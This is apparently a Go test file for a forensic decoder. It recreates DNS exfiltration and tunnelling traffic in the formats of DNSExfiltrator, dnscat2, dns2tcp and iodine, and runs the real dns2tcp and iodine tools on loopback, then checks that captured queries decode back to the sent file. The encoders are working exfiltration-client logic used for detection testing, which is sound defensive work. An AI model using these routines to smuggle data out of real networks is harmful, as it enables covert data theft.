package decode

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"context"
	"crypto/rc4"
	"encoding/binary"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pcapframe/pcapframe/internal/livetest"
	"github.com/pcapframe/pcapframe/internal/netnstest"
)

// secretFile is the file the end-to-end test exfiltrates: a PNG of noisy pixels (about 4 KB, so that it does not
// compress away), built from a fixed seed.
func secretFile(t testing.TB) []byte {
	t.Helper()
	rng := rand.New(rand.NewPCG(1, 2))
	img := image.NewRGBA(image.Rect(0, 0, 40, 30))
	for y := 0; y < 30; y++ {
		for x := 0; x < 40; x++ {
			img.Set(x, y, color.RGBA{uint8(rng.IntN(256)), uint8(x * 6), uint8(y * 8), 255})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// dnsQuery builds a DNS query message (RFC 1035 §4.1) for the labels, type TXT.
func dnsQuery(id uint16, labels [][]byte) []byte {
	m := make([]byte, 12, 300)
	binary.BigEndian.PutUint16(m[0:], id)
	binary.BigEndian.PutUint16(m[2:], 0x0100) // RD
	binary.BigEndian.PutUint16(m[4:], 1)
	for _, l := range labels {
		m = append(m, byte(len(l)))
		m = append(m, l...)
	}
	m = append(m, 0, 0, 16, 0, 1)
	return m
}

// splitLabels cuts s into labels of at most n bytes.
func splitLabels(s string, n int) [][]byte {
	var out [][]byte
	for len(s) > n {
		out = append(out, []byte(s[:n]))
		s = s[n:]
	}
	if s != "" {
		out = append(out, []byte(s))
	}
	return out
}

func name(domain string, labels ...[]byte) [][]byte {
	out := append([][]byte{}, labels...)
	for _, l := range strings.Split(domain, ".") {
		out = append(out, []byte(l))
	}
	return out
}

// scenario is one exfiltration: the names a client sends, and what decoding them must give.
type scenario struct {
	name   string
	domain string
	names  [][][]byte
	opts   Options
	want   []byte   // the data, or
	pkts   [][]byte // the inner packets (iodine)
	tool   string
	enc    Encoding
	comp   string
}

// plainNames writes text in chunks of per characters as <seq>.<labels>.<session>.<domain>, with the chunk of
// seq 3 sent twice (a retransmission) and chunks 5 and 6 swapped (out of order).
func plainNames(text, domain string, per int, seq bool) [][][]byte {
	var out [][][]byte
	for i := 0; len(text) > 0; i++ {
		c := text[:min(per, len(text))]
		text = text[len(c):]
		var ls [][]byte
		if seq {
			ls = append(ls, []byte(strconv.Itoa(i)))
		}
		ls = append(ls, splitLabels(c, 50)...)
		ls = append(ls, []byte("s7k2"))
		out = append(out, name(domain, ls...))
		if i == 3 && seq {
			out = append(out, name(domain, ls...))
		}
	}
	if seq && len(out) > 8 {
		out[6], out[7] = out[7], out[6]
	}
	return out
}

// perChunkNames encodes each chunk of raw bytes on its own (big-number encodings), with a sequence label.
func perChunkNames(data []byte, e Encoding, domain string, per int) [][][]byte {
	var out [][][]byte
	for i := 0; len(data) > 0; i++ {
		c := data[:min(per, len(data))]
		data = data[len(c):]
		ls := append([][]byte{[]byte(strconv.Itoa(i))}, splitLabels(EncodeString(e, c), 60)...)
		out = append(out, name(domain, ls...))
	}
	return out
}

func compress(t testing.TB, kind string, b []byte) []byte {
	var buf bytes.Buffer
	var w interface {
		Write([]byte) (int, error)
		Close() error
	}
	switch kind {
	case "gzip":
		w = gzip.NewWriter(&buf)
	case "zlib":
		w = zlib.NewWriter(&buf)
	case "deflate":
		fw, err := flate.NewWriter(&buf, flate.BestCompression)
		if err != nil {
			t.Fatal(err)
		}
		w = fw
	}
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// dnsExfiltratorNames writes file as DNSExfiltrator's client does: a zip archive of it, RC4 under key, encoded
// (base64url without padding, or base32), init.<base32 "name|chunks">.<codec>, then <n>.<labels>.
func dnsExfiltratorNames(t testing.TB, file []byte, key, domain string, b32 bool) [][][]byte {
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	fw, err := zw.Create("secret.png")
	if err != nil {
		t.Fatal(err)
	}
	fw.Write(file)
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	c, _ := rc4.NewCipher([]byte(key))
	enc := make([]byte, zb.Len())
	c.XORKeyStream(enc, zb.Bytes())
	text, codec := EncodeString(Base64URL, enc), "base64"
	if b32 {
		text, codec = strings.ToLower(strings.TrimRight(EncodeString(Base32, enc), "=")), "base32"
	}
	chunks := splitLabels(text, 100)
	initText := strings.TrimRight(EncodeString(Base32, []byte(fmt.Sprintf("secret.png|%d", len(chunks)))), "=")
	out := [][][]byte{name(domain, []byte("init"), []byte(initText), []byte(codec))}
	for i, ch := range chunks {
		out = append(out, name(domain, append([][]byte{[]byte(strconv.Itoa(i))}, splitLabels(string(ch), 50)...)...))
	}
	return out
}

// dnscat2Names writes data as a clear dnscat2 client: a SYN naming the session, then MSG packets of up to 60
// bytes at growing sequence numbers, a poll (MSG without data) before each, one retransmitted.
func dnscat2Names(data []byte, domain string) [][][]byte {
	var out [][][]byte
	pid := uint16(0x1000)
	pkt := func(b []byte) {
		out = append(out, name(domain, splitLabels(EncodeString(Hex, b), 62)...))
		pid++
	}
	sid, seq := uint16(0x4242), uint16(0xfff0) // the sequence wraps
	syn := []byte{byte(pid >> 8), byte(pid), 0, byte(sid >> 8), byte(sid), byte(seq >> 8), byte(seq), 0, 1}
	pkt(append(syn, "exfil\x00"...))
	for i := 0; len(data) > 0; i++ {
		c := data[:min(60, len(data))]
		data = data[len(c):]
		hdr := []byte{0, 0, 1, byte(sid >> 8), byte(sid), byte(seq >> 8), byte(seq), 0, 0}
		poll := append([]byte{}, hdr...)
		poll[0], poll[1] = byte(pid>>8), byte(pid)
		pkt(poll)
		msg := append(append([]byte{}, hdr...), c...)
		msg[0], msg[1] = byte(pid>>8), byte(pid)
		pkt(msg)
		if i == 2 {
			msg[0], msg[1] = byte(pid>>8), byte(pid)
			pkt(msg)
		}
		seq += uint16(len(c))
	}
	return out
}

// dns2tcpNames writes data as a dns2tcp client: =auth and =connect commands, then base64 queries with the 7-byte
// header (session, ack, sequence, type 0x08 with data, 0x04 a poll).
func dns2tcpNames(data []byte, domain string) [][][]byte {
	var out [][][]byte
	q := func(b []byte, cmd string) {
		ls := splitLabels(strings.TrimRight(EncodeString(Base64, b), "="), 60)
		if cmd != "" {
			ls = append(ls, []byte("="+cmd))
		}
		out = append(out, name(domain, ls...))
	}
	q([]byte{0, 0, 0, 0, 0x7e, 0xf0, 0x40}, "auth")
	q(append([]byte{0xa2, 0x77, 0x72, 0xe8, 0xae, 0x9c, 0}, "ssh"...), "connect")
	seq := uint16(1)
	for len(data) > 0 {
		c := data[:min(120, len(data))]
		data = data[len(c):]
		q([]byte{0xa2, 0x77, 0, 0, byte(seq >> 8), byte(seq), 4}, "")
		seq++
		q(append([]byte{0xa2, 0x77, 0, 0, byte(seq >> 8), byte(seq), 8}, c...), "")
		seq++
	}
	return out
}

// ipv4UDP builds an IPv4/UDP packet with a valid header checksum carrying payload.
func ipv4UDP(payload []byte, id uint16) []byte {
	p := make([]byte, 28, 28+len(payload))
	p[0], p[8], p[9] = 0x45, 64, 17
	binary.BigEndian.PutUint16(p[2:], uint16(28+len(payload)))
	binary.BigEndian.PutUint16(p[4:], id)
	copy(p[12:], []byte{10, 99, 0, 2})
	copy(p[16:], []byte{10, 99, 0, 1})
	binary.BigEndian.PutUint16(p[20:], 40000)
	binary.BigEndian.PutUint16(p[22:], 9999)
	binary.BigEndian.PutUint16(p[24:], uint16(8+len(payload)))
	binary.BigEndian.PutUint16(p[10:], ipChecksum(p[:20]))
	return append(p, payload...)
}

func ipChecksum(h []byte) uint16 {
	var s uint32
	for i := 0; i+1 < len(h); i += 2 {
		s += uint32(h[i])<<8 | uint32(h[i+1])
	}
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return ^uint16(s)
}

// iodineNames writes packets as an iodine client in codec e: the version handshake, a ping, then each packet
// compressed with zlib, cut in fragments of 90 bytes, each a data query (user id, header, cache-defeating
// character, payload, a dot every 57 characters); one fragment is sent twice.
func iodineNames(t testing.TB, packets [][]byte, e Encoding, domain string) [][][]byte {
	b32 := func(v int) byte { return iodine32[v&31] }
	ver := EncodeString(IodineBase32, []byte{0, 0, 5, 2, 0x12, 0x34})
	out := [][][]byte{name(domain, []byte("v"+ver)), name(domain, []byte("paaaab7q"))}
	cmc := 0
	for i, p := range packets {
		z := compress(t, "zlib", p)
		seq := i & 7
		for f := 0; len(z) > 0; f++ {
			c := z[:min(90, len(z))]
			z = z[len(c):]
			last := 0
			if len(z) == 0 {
				last = 1
			}
			in := []byte{'0', b32(seq<<2 | f>>2), b32((f&3)<<3 | 0), b32(last), iodine32[cmc%32]}
			cmc++
			in = append(in, EncodeString(e, c)...)
			out = append(out, name(domain, splitLabels(string(in), 57)...))
			if i == 1 && f == 0 {
				out = append(out, out[len(out)-1])
			}
		}
	}
	return out
}

func scenarios(t testing.TB) []scenario {
	file := secretFile(t)
	var out []scenario
	for _, c := range []struct {
		e     Encoding
		text  string
		lower bool
	}{
		{Hex, EncodeString(Hex, file), false},
		{Base32, EncodeString(Base32, file), false},
		{Base32, strings.ToLower(strings.TrimRight(EncodeString(Base32, file), "=")), true},
		{Base32Hex, EncodeString(Base32Hex, file), false},
		{Base64, EncodeString(Base64, file), false},
		{Base64URL, EncodeString(Base64URL, file), false},
	} {
		n := fmt.Sprintf("plain-%s", c.e)
		if c.lower {
			n += "-lower-nopad"
		}
		out = append(out, scenario{name: n, domain: "x" + strings.ReplaceAll(string(c.e), "base", "b") + ".exfil.test",
			want: file, tool: ToolPlain, enc: c.e})
		out[len(out)-1].names = plainNames(c.text, out[len(out)-1].domain, 90, true)
	}
	for _, e := range []Encoding{Base36, Base58} {
		d := "x" + string(e) + ".exfil.test"
		out = append(out, scenario{name: "plain-" + string(e), domain: d, names: perChunkNames(file, e, d, 40), want: file, tool: ToolPlain, enc: e})
	}
	for _, c := range []struct {
		comp string
		e    Encoding
	}{{"gzip", Base64}, {"zlib", Base32}, {"deflate", Hex}} {
		d := "z" + c.comp + ".exfil.test"
		text := EncodeString(c.e, compress(t, c.comp, file))
		out = append(out, scenario{name: "plain-" + c.comp + "-" + string(c.e), domain: d, names: plainNames(text, d, 90, true),
			want: file, tool: ToolPlain, enc: c.e, comp: c.comp})
	}
	// no sequence numbers: capture order, one retransmission dropped
	out = append(out, scenario{name: "plain-noseq-hex", domain: "noseq.exfil.test", names: plainNames(EncodeString(Hex, file), "noseq.exfil.test", 90, false),
		want: file, tool: ToolPlain, enc: Hex})
	for _, b32 := range []bool{false, true} {
		d := fmt.Sprintf("dx%v.exfil.test", b32)
		enc := Base64URL
		if b32 {
			enc = Base32
		}
		out = append(out, scenario{name: fmt.Sprintf("dnsexfiltrator-%s", enc), domain: d, names: dnsExfiltratorNames(t, file, "s3cr3t", d, b32),
			opts: Options{Key: "s3cr3t"}, want: file, tool: ToolDNSExfiltrator, enc: enc, comp: "zip"})
	}
	out = append(out, scenario{name: "dnscat2", domain: "cat.exfil.test", names: dnscat2Names(file, "cat.exfil.test"), want: file, tool: ToolDNSCat2, enc: Hex})
	out = append(out, scenario{name: "dns2tcp", domain: "tcp.exfil.test", names: dns2tcpNames(file, "tcp.exfil.test"), want: file, tool: ToolDNS2TCP, enc: Base64})
	var pkts [][]byte
	for i := 0; i*200 < len(file); i++ {
		pkts = append(pkts, ipv4UDP(file[i*200:min(len(file), (i+1)*200)], uint16(i)))
	}
	for _, e := range []Encoding{IodineBase32, IodineBase64, IodineBase64U, IodineBase128} {
		d := "io" + strings.TrimPrefix(string(e), "iodine-") + ".exfil.test"
		out = append(out, scenario{name: string(e), domain: d, names: iodineNames(t, pkts, e, d), pkts: pkts, tool: ToolIodine, enc: e, comp: "zlib"})
	}
	return out
}

// check decodes the queries of one scenario and compares the result with what was sent.
func check(t *testing.T, qs []Query, s scenario) {
	t.Helper()
	opts := s.opts
	opts.Domain = s.domain
	r, err := Decode(qs, opts)
	if err != nil {
		t.Fatalf("%s: %v", s.name, err)
	}
	if r.Tool != s.tool || r.Encoding != s.enc || r.Compression != s.comp || !r.Decoded {
		t.Errorf("%s: tool %q encoding %q compression %q decoded %v, want %q %q %q (notes %q)", s.name, r.Tool, r.Encoding, r.Compression, r.Decoded, s.tool, s.enc, s.comp, r.Notes)
	}
	if s.pkts != nil {
		if len(r.Packets) != len(s.pkts) {
			t.Fatalf("%s: %d packets, want %d (notes %q)", s.name, len(r.Packets), len(s.pkts), r.Notes)
		}
		for i := range s.pkts {
			if !bytes.Equal(r.Packets[i].Data, s.pkts[i]) {
				t.Errorf("%s: packet %d differs", s.name, i)
			}
		}
		return
	}
	if !bytes.Equal(r.Data, s.want) {
		t.Errorf("%s: %d bytes decoded, want the %d sent (notes %q)", s.name, len(r.Data), len(s.want), r.Notes)
	}
	if r.MIME != "image/png" {
		t.Errorf("%s: MIME %q, want image/png", s.name, r.MIME)
	}
}

// loopAddr returns a loopback address of the test's own (127.x.y.z), so that other tests' traffic on lo does not
// mix in.
func loopAddr() string {
	rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 7))
	return fmt.Sprintf("127.%d.%d.%d", 100+rng.IntN(100), rng.IntN(250), 1+rng.IntN(250))
}

// captureLo captures on lo the packets that match filter into a pcap file until stop is called; stop returns the
// file and the number of frames. Capturing needs root or CAP_NET_RAW: without it the test fails and says so.
func captureLo(t *testing.T, filter string) (stop func() (string, int)) {
	t.Helper()
	return captureOn(t, "lo", filter)
}

// captureOn is captureLo on interface ifc.
func captureOn(t *testing.T, ifc, filter string) (stop func() (string, int)) {
	t.Helper()
	return livetest.Capture(t, ifc, filter)
}

// TestExfilLoopback exfiltrates a known file over DNS on the loopback interface in every supported encoding and
// framing: a Go client sends the queries to a UDP listener of the test, the live package captures them, the
// capture is read back through the dns table, and Decode must give the bytes that were sent. Capturing needs
// root or CAP_NET_RAW: without it the test fails and says so.
func TestExfilLoopback(t *testing.T) {
	addr := loopAddr()
	pc, err := net.ListenPacket("udp4", addr+":53")
	if err != nil {
		t.Fatalf("listen on %s:53 (the test needs root): %v", addr, err)
	}
	defer pc.Close()
	stop := captureLo(t, "udp and dst host "+addr+" and dst port 53")
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := pc.ReadFrom(buf); err != nil {
				return
			}
		}
	}()
	c, err := net.Dial("udp4", addr+":53")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	all := scenarios(t)
	sent := 0
	for _, s := range all {
		for i, n := range s.names {
			if _, err := c.Write(dnsQuery(uint16(sent+i), n)); err != nil {
				t.Fatal(err)
			}
			if i%50 == 49 {
				time.Sleep(2 * time.Millisecond) // keep within the socket buffers
			}
		}
		sent += len(s.names)
	}
	path, captured := stop()
	if captured != sent {
		t.Fatalf("captured %d of the %d queries sent", captured, sent)
	}
	qs, err := ReadQueries(context.Background(), []string{path})
	if err != nil {
		t.Fatal(err)
	}
	if len(qs) != sent {
		t.Fatalf("the dns table has %d queries, %d were sent", len(qs), sent)
	}
	t.Logf("%d queries in %d scenarios captured on lo", sent, len(all))
	for _, s := range all {
		t.Run(s.name, func(t *testing.T) { check(t, qs, s) })
	}
}

// TestDNS2TCPReal tunnels a known file through the real dns2tcp (Debian's dns2tcpd and dns2tcpc, v0.5.2) on
// loopback: the server on the test's own 127.x.y.z:53 forwards the resource to a TCP sink of the test, the client
// reads the file from a local TCP connection; the DNS traffic is captured on lo and Decode must give the bytes the
// sink received, which must be the file.
func TestDNS2TCPReal(t *testing.T) {
	for _, tool := range []string{"dns2tcpd", "dns2tcpc"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s is needed (apt-get install -y dns2tcp): %v", tool, err)
		}
	}
	file := make([]byte, 3000)
	rng := rand.New(rand.NewPCG(3, 4))
	for i := range file {
		file[i] = byte(rng.IntN(256))
	}
	sink, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer sink.Close()
	received := make(chan []byte, 1)
	go func() {
		c, err := sink.Accept()
		if err != nil {
			received <- nil
			return
		}
		defer c.Close()
		var got []byte
		buf := make([]byte, 4096)
		c.SetReadDeadline(time.Now().Add(60 * time.Second))
		for len(got) < len(file) {
			n, err := c.Read(buf)
			got = append(got, buf[:n]...)
			if err != nil {
				break
			}
		}
		received <- got
	}()
	addr, dir := loopAddr(), t.TempDir()
	const domain = "tcp.exfil.test"
	conf := fmt.Sprintf("listen = %s\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = %s\nresources = sink:127.0.0.1:%d\n",
		addr, domain, sink.Addr().(*net.TCPAddr).Port)
	if err := os.WriteFile(filepath.Join(dir, "dns2tcpd.conf"), []byte(conf), 0o644); err != nil {
		t.Fatal(err)
	}
	stop := captureLo(t, "udp and host "+addr+" and port 53")
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	srv := exec.CommandContext(ctx, "dns2tcpd", "-F", "-f", filepath.Join(dir, "dns2tcpd.conf"))
	var srvOut bytes.Buffer
	srv.Stdout, srv.Stderr = &srvOut, &srvOut
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { srv.Process.Kill(); srv.Wait() }()
	lp, err := net.Listen("tcp4", "127.0.0.1:0") // a free port for the client
	if err != nil {
		t.Fatal(err)
	}
	port := lp.Addr().(*net.TCPAddr).Port
	lp.Close()
	time.Sleep(500 * time.Millisecond)
	cli := exec.CommandContext(ctx, "dns2tcpc", "-z", domain, "-r", "sink", "-l", strconv.Itoa(port), addr)
	var cliOut bytes.Buffer
	cli.Stdout, cli.Stderr = &cliOut, &cliOut
	if err := cli.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cli.Process.Kill(); cli.Wait() }()
	var conn net.Conn
	for i := 0; i < 50; i++ {
		if conn, err = net.Dial("tcp4", fmt.Sprintf("127.0.0.1:%d", port)); err == nil {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if err != nil {
		t.Fatalf("dns2tcpc does not listen on %d: %v\n%s", port, err, cliOut.String())
	}
	if _, err := conn.Write(file); err != nil {
		t.Fatal(err)
	}
	got := <-received
	conn.Close()
	path, captured := stop()
	if !bytes.Equal(got, file) {
		t.Fatalf("the sink received %d bytes, not the %d sent (server: %s client: %s)", len(got), len(file), srvOut.String(), cliOut.String())
	}
	qs, err := ReadQueries(context.Background(), []string{path})
	if err != nil {
		t.Fatal(err)
	}
	r, err := Decode(qs, Options{Domain: domain})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%d frames captured, %d queries, %d chunks, %d duplicates", captured, r.Queries, r.Chunks, r.Duplicates)
	if r.Tool != ToolDNS2TCP || r.FileName != "sink" || !bytes.Equal(r.Data, file) {
		t.Errorf("tool %s resource %q: %d bytes decoded, want the %d sent (notes %q)", r.Tool, r.FileName, len(r.Data), len(file), r.Notes)
	}
}

// TestIodineReal tunnels a UDP datagram through the real iodine (Debian's iodined and iodine, 0.7.0): the server
// runs in a network namespace the test creates, reached over a veth pair; the client (forced to DNS with -r)
// opens its tun device in the test's namespace; the test sends a datagram with a known payload to the server's
// tunnel address, captures the DNS on the veth, and Decode must give back an IPv4 packet carrying that payload to
// that address, with a valid header checksum.
func TestIodineReal(t *testing.T) {
	for _, tool := range []string{"iodine", "iodined", "ip"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s is needed (apt-get install -y iodine iproute2): %v", tool, err)
		}
	}
	id := os.Getpid() % 10000
	ns, a, tun := fmt.Sprintf("pfio%d", id), fmt.Sprintf("pia%d", id), fmt.Sprintf("pfiod%d", id)
	netnstest.Veth(t, ns, a, fmt.Sprintf("pib%d", id), "10.232.7")
	const domain = "io.exfil.test"
	stop := captureOn(t, a, "udp and port 53")
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	startIodine(ctx, t, ns, "10.232.7.2", "10.77.0", domain, tun, nil, 45*time.Second)
	payload := []byte("pcapframe iodine test: a datagram through the tunnel 0123456789")
	c, err := net.Dial("udp4", "10.77.0.1:9999")
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		c.Write(payload)
		time.Sleep(700 * time.Millisecond)
	}
	c.Close()
	time.Sleep(2 * time.Second)
	path, captured := stop()
	qs, err := ReadQueries(context.Background(), []string{path})
	if err != nil {
		t.Fatal(err)
	}
	r, err := Decode(qs, Options{Domain: domain})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%d frames captured, %d queries, codec %s, %d packets decoded", captured, r.Queries, r.Encoding, len(r.Packets))
	found := 0
	for _, p := range r.Packets {
		d := p.Data
		if len(d) < 28 || d[0]>>4 != 4 || d[9] != 17 || ipChecksum(d[:int(d[0]&15)*4]) != 0 {
			continue
		}
		h := int(d[0]&15) * 4
		if bytes.Equal(d[16:20], []byte{10, 77, 0, 1}) && binary.BigEndian.Uint16(d[h+2:]) == 9999 && bytes.Equal(d[h+8:], payload) {
			found++
		}
	}
	if r.Tool != ToolIodine || found == 0 {
		t.Errorf("tool %s: %d of the datagrams sent through the tunnel decoded (notes %q)", r.Tool, found, r.Notes)
	}
}

// lockedBuffer is a bytes.Buffer that a command's output goroutine writes while the test reads it.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// startIodine starts iodined in the namespace ns (listening on server, tunnel network tunNet.0/27 with tunNet.1
// its end) and the iodine client here (tunnel device tun, args added to its flags), both killed when the test
// ends, and waits up to wait for the client's "Connection setup complete" (the handshake, codec switch and
// fragment size probe done). It returns the server's and the client's output.
func startIodine(ctx context.Context, t *testing.T, ns, server, tunNet, domain, tun string, args []string, wait time.Duration) (srvOut, cliOut *lockedBuffer) {
	t.Helper()
	srvOut, cliOut = &lockedBuffer{}, &lockedBuffer{}
	srv := exec.CommandContext(ctx, "ip", "netns", "exec", ns, "iodined", "-f", "-c", "-P", "pfpass123", "-l", server, tunNet+".1", domain)
	srv.Stdout, srv.Stderr = srvOut, srvOut
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Process.Kill(); srv.Wait() })
	time.Sleep(time.Second)
	cli := exec.CommandContext(ctx, "iodine", append(append([]string{"-f", "-r", "-d", tun, "-P", "pfpass123"}, args...), server, domain)...)
	cli.Stdout, cli.Stderr = cliOut, cliOut
	if err := cli.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cli.Process.Kill(); cli.Wait() })
	up := false
	for deadline := time.Now().Add(wait); !up && time.Now().Before(deadline); {
		time.Sleep(100 * time.Millisecond)
		up = strings.Contains(cliOut.String(), "setup complete")
	}
	if !up {
		t.Fatalf("iodine's tunnel did not come up\nserver: %s\nclient: %s", srvOut.String(), cliOut.String())
	}
	return srvOut, cliOut
}
